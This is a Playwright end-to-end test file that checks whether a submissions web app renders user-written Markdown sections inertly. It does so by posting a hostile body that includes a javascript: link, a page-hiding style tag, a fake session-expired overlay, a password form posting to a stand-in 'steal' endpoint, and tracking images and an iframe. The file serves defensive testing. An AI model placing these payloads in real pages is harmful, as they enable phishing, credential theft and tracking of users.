import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Locator, Page } from 'playwright-core';
import { DESKTOP, openPage, settle, signIn, startWebApp, type WebApp } from './web-app.js';

const OECD = 'Response to the OECD Draft Recommendation on Access to Justice and People-centred Justice Systems';
const OUTSIDE = 'https://outside.example';

/** What a probe put in a section: each of these must show as inert text or vanish. */
const HOSTILE_BODY = [
  'Opening paragraph with **bold** text, a [source](https://www.ohchr.org) and [a trap](javascript:alert(1)).',
  '<style>body { display: none } .markdown { color: red }</style>',
  `<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired, sign in again: <a href="${OUTSIDE}/login">Sign in</a></div>`,
  `<form action="${OUTSIDE}/steal"><input name="password" type="password"><button>Sign in</button></form>`,
  `![tracking pixel](${OUTSIDE}/pixel.png)`,
  `<img src="${OUTSIDE}/img.png" alt="raw image">`,
  `<p style="background:url(${OUTSIDE}/background.png)">Painted paragraph</p>`,
  `<svg><image href="${OUTSIDE}/svg.png"/></svg><iframe src="${OUTSIDE}/frame"></iframe>`,
  '- [x] a task done',
].join('\n\n');

/** What Markdown itself makes (web/src/features/submissions/markdown/markdown-rules.ts). */
const MARKDOWN_TAGS =
  'h1 h2 h3 h4 h5 h6 p em strong del ul ol li blockquote code pre table thead tbody tr th td a img hr br'.split(' ');

const SECTION = 'Probe of the Markdown policy';
const SNAPSHOT = 'Text with the probe';

/** Every request and every CSP complaint the page makes from now on. */
function watch(page: Page, origin: string): { outside: string[]; csp: string[] } {
  const seen = { outside: [] as string[], csp: [] as string[] };
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (['http:', 'https:', 'ws:', 'wss:'].includes(url.protocol) && url.origin !== origin) seen.outside.push(url.href);
  });
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) {
      const { url, lineNumber, columnNumber } = message.location();
      seen.csp.push(`${message.text()} (${url}:${lineNumber}:${columnNumber})`);
    }
  });
  return seen;
}

/** The rendered Markdown in `region`: only Markdown's own elements, nothing styled, posed or fetched. */
async function expectInert(region: Locator): Promise<void> {
  const markdown = region.locator('.markdown').first();
  await markdown.getByText('Opening paragraph with').waitFor();
  const found = await markdown.evaluate((root) => {
    const all = [...root.querySelectorAll('*')];
    return {
      tags: [...new Set(all.map((el) => el.tagName.toLowerCase()))].sort(),
      styled: all.filter((el) => el.hasAttribute('style') || el.hasAttribute('class') || el.hasAttribute('id')).length,
      fixed: all.filter((el) => ['fixed', 'sticky'].includes(getComputedStyle(el).position)).length,
      links: [...root.querySelectorAll('a')].map((a) => ({
        href: a.getAttribute('href'),
        target: a.getAttribute('target'),
        rel: a.getAttribute('rel'),
      })),
      images: [...root.querySelectorAll('img')].map((img) => img.getAttribute('src') ?? ''),
      text: root.textContent ?? '',
    };
  });
  expect(found.tags.filter((tag) => !MARKDOWN_TAGS.includes(tag))).toEqual([]);
  expect(found.styled).toBe(0);
  expect(found.fixed).toBe(0);
  expect(found.images.filter((src) => !src.startsWith('/'))).toEqual([]);
  expect(found.links).toContainEqual({ href: 'https://www.ohchr.org', target: '_blank', rel: 'noopener noreferrer' });
  for (const link of found.links) {
    if (link.href === null) expect(link).toEqual({ href: null, target: null, rel: null });
    else
      expect(link).toEqual({
        href: expect.stringMatching(/^(https?:|mailto:)/),
        target: '_blank',
        rel: 'noopener noreferrer',
      });
  }
  // The raw HTML reads as what was typed; an outside image leaves its alt text; a task box is a character.
  expect(found.text).toContain('<style>body { display: none }');
  expect(found.text).toContain('Session expired, sign in again');
  expect(found.text).toContain('tracking pixel');
  expect(found.text).toContain('☑ a task done');
  const page = region.page();
  expect(await page.locator('body').isVisible()).toBe(true);
  expect(await page.locator('style', { hasText: 'display: none' }).count()).toBe(0);
  expect(await page.locator('form[action*="outside"], input[name="password"]').count()).toBe(0);
}

describe('the web app: section Markdown is text, never a page of its own', () => {
  let web: WebApp;
  let page: Page;
  let seen: { outside: string[]; csp: string[] };
  let submissionId: string;
  let sectionId: string;

  beforeAll(async () => {
    web = await startWebApp();
    page = await openPage(web, DESKTOP);
    seen = watch(page, new URL(web.url).origin);
    await signIn(page, 'coordinator@cjn.example');
    const found = await page.request.get(`/api/v1/submissions?q=${encodeURIComponent(OECD)}`);
    submissionId = (await found.json()).items[0].id as string;
    const created = await page.request.post(`/api/v1/submissions/${submissionId}/sections`, {
      data: { title: SECTION, body: HOSTILE_BODY },
    });
    expect(created.status()).toBe(201);
    sectionId = (await created.json()).id as string;
    const snapshot = await page.request.post(`/api/v1/submissions/${submissionId}/snapshots`, {
      data: { name: SNAPSHOT },
    });
    expect(snapshot.status()).toBe(201);
  });
  afterAll(() => web?.close());

  it('on the section page, in the editor preview', async () => {
    await page.goto(`/submissions/${submissionId}/sections/${sectionId}`);
    await page.getByRole('heading', { level: 1, name: SECTION }).waitFor();
    await page.getByRole('tab', { name: 'Preview' }).click();
    await expectInert(page.getByRole('tabpanel'));
    await settle(page);
    expect(seen.outside).toEqual([]);
    expect(seen.csp).toEqual([]);
  });

  it('in the preview of the assembled document', async () => {
    await page.goto(`/submissions/${submissionId}`);
    await page.getByRole('button', { name: 'Preview the document' }).click();
    await expectInert(page.getByRole('region', { name: 'Preview of the assembled document' }));
    await settle(page);
    expect(seen.outside).toEqual([]);
    expect(seen.csp).toEqual([]);
  });

  it('in a snapshot', async () => {
    await page.goto(`/submissions/${submissionId}`);
    await page.getByRole('button', { name: `Read ${SNAPSHOT}` }).click();
    await expectInert(page.getByRole('region', { name: `Text of the snapshot “${SNAPSHOT}”` }));
    await settle(page);
    expect(seen.outside).toEqual([]);
    expect(seen.csp).toEqual([]);
  });
  it('in the frozen section once the submission is submitted', async () => {
    const path = ['planned', 'drafting', 'review', 'sign_off', 'submitted'];
    const { status } = (await (await page.request.get(`/api/v1/submissions/${submissionId}`)).json()) as {
      status: string;
    };
    for (const to of path.slice(path.indexOf(status) + 1)) {
      const moved = await page.request.post(`/api/v1/submissions/${submissionId}/transitions`, {
        data: { to, override: true, reason: 'Probe of the Markdown policy' },
      });
      expect(moved.status()).toBe(200);
    }
    await page.goto(`/submissions/${submissionId}/sections/${sectionId}`);
    await page.getByText(/its text is frozen/).waitFor();
    await expectInert(page.getByRole('region', { name: 'Section text' }));
    await settle(page);
    expect(seen.outside).toEqual([]);
    expect(seen.csp).toEqual([]);
  });
});
